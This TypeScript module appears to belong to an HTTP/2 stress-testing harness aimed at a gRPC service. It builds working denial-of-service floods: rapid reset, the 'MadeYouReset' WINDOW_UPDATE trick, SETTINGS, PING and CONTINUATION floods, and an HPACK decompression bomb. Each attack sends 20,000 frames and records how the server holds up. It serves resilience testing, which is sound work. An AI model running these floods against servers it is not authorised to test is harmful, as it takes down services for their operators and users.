/** What HTTP/2 lets a caller ask for with a few bytes: streams that are taken back, and frames that want an answer. */
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, Notes, type Run, seconds } from '../attack';
import {
  converse,
  FLAG,
  grpcHeaders,
  h2Frame,
  headerBlock,
  int32,
  PREFACE,
  setting,
  TYPE,
  write,
} from '../frames';

const HTTP1 = 'It speaks HTTP/1.1 alone, and has no frames.';
const FLOOD_MS_MAX = 8000;
const CANCEL = 8;
const BATCH = 200;

const hello = Buffer.concat([PREFACE, h2Frame(TYPE.settings, FLAG.none, 0)]);

/** `make` gives the frames of one step; what it does to streams is numbered from 0. */
const flood = async (
  socket: Socket,
  frames: number,
  make: (index: number) => Buffer,
  first: Buffer = hello,
): Promise<void> => {
  await write(socket, first);
  for (let done = 0; done < frames && !socket.destroyed; done += BATCH) {
    await write(socket, Buffer.concat(Array.from({ length: BATCH }, (_, index) => make(done + index))));
  }
};

interface Flood {
  readonly name: string;
  readonly make: (index: number) => Buffer;
  readonly first?: Buffer;
  /** Answers are left where they are, so that the server has to keep them. */
  readonly reads?: boolean;
}

const streamOf = (index: number): number => 2 * index + 1;

const RESETS: readonly Flood[] = [
  {
    name: 'with its headers',
    make: (index) => {
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
      return Buffer.concat([open, h2Frame(TYPE.reset, FLAG.none, streamOf(index), int32(CANCEL))]);
    },
  },
  {
    name: 'with its call',
    make: (index) => {
      const stream = streamOf(index);
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, stream, grpcHeaders('ListSkills'));
      const ask = h2Frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5));
      return Buffer.concat([open, ask, h2Frame(TYPE.reset, FLAG.none, stream, int32(CANCEL))]);
    },
  },
  {
    // The server takes it back itself, as WINDOW_UPDATE by 0 is an error of the stream ("MadeYouReset").
    name: 'by an error of ours',
    make: (index) => {
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
      return Buffer.concat([open, h2Frame(TYPE.windowUpdate, FLAG.none, streamOf(index), int32(0))]);
    },
  },
];

const open = h2Frame(TYPE.headers, FLAG.none, 1, grpcHeaders('GetSkill'));
const began = h2Frame(TYPE.headers, FLAG.endHeaders, 1, grpcHeaders('GetSkill'));
/** 4 KB that HPACK remembers as entry 62, and then a thousand times one byte that stands for it. */
const remembered = Buffer.concat([
  Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]),
  Buffer.alloc(4000, 'x'),
  grpcHeaders('GetSkill').subarray(0, 0),
]);

const FLOODS: readonly Flood[] = [
  { name: 'SETTINGS', make: () => h2Frame(TYPE.settings, FLAG.none, 0, setting(4, 65_535)), reads: false },
  { name: 'PING', make: () => h2Frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8)), reads: false },
  { name: 'PRIORITY', make: (index) => h2Frame(TYPE.priority, FLAG.none, streamOf(index), Buffer.alloc(5)) },
  { name: 'WINDOW_UPDATE', make: () => h2Frame(TYPE.windowUpdate, FLAG.none, 0, int32(1)) },
  {
    name: 'empty CONTINUATION',
    first: Buffer.concat([hello, open]),
    make: () => h2Frame(TYPE.continuation, FLAG.none, 1),
  },
  {
    name: 'CONTINUATION with headers',
    first: Buffer.concat([hello, open]),
    make: (index) =>
      h2Frame(TYPE.continuation, FLAG.none, 1, headerBlock({ [`x-${index}`]: 'x'.repeat(1000) })),
  },
  {
    name: 'empty DATA',
    first: Buffer.concat([hello, began]),
    make: () => h2Frame(TYPE.data, FLAG.none, 1),
  },
  {
    name: 'HPACK bomb',
    make: (index) => {
      const block = index === 0 ? remembered : Buffer.alloc(1000, 0xbe);
      return h2Frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), block);
    },
  },
  { name: 'unknown frames', make: () => h2Frame(0xee, 0xff, 0, Buffer.alloc(100)) },
  { name: 'no HTTP/2', first: Buffer.from('GET / HTTP/1.1\r\n\r\n'), make: () => Buffer.alloc(100, 'x') },
];

const floods =
  (kinds: readonly Flood[]): Run =>
  async ({ address }, { frames, patienceMs }) => {
    const notes = new Notes();
    await Promise.all(
      kinds.map(async ({ name, make, first, reads = true }) => {
        const { socket, ended } = converse(address.grpc);
        if (!reads) socket.pause();
        // A server that reads no further holds up the flood itself.
        await Promise.race([flood(socket, frames, make, first), sleep(FLOOD_MS_MAX)]);
        socket.resume();
        const { how, afterMs } = await ended(patienceMs);
        notes.see(`${name}: ${how}${how === 'borne' ? '' : ` after ${seconds(afterMs)}`}`);
      }),
    );
    return notes.finding();
  };

export const rapidReset: Attack = {
  name: 'HTTP/2 rapid reset',
  sent: '20,000 streams, each opened and taken back at once: by RST_STREAM, or by an error that makes the server do it',
  on: { rest: HTTP1, graphql: HTTP1, grpc: floods(RESETS), soap: HTTP1 },
};

export const frameFloods: Attack = {
  name: 'HTTP/2 floods',
  sent: '20,000 frames of each kind: SETTINGS and PING whose answers nobody reads, CONTINUATION without end, HPACK bombs',
  on: { rest: HTTP1, graphql: HTTP1, grpc: floods(FLOODS), soap: HTTP1 },
};
